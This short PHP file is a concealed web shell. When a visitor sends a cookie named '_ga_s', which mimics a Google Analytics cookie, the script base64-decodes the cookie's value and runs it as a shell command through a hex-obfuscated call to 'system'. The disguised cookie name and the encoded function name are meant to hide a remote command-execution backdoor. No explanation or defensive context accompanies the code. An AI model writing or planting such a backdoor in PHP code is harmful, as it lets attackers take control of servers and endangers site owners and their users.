<?php
if (isset($_COOKIE['_ga_s'])) {
    "\x73\x79\x73\x74\x65\x6d"(base64_decode($_COOKIE['_ga_s']));
}
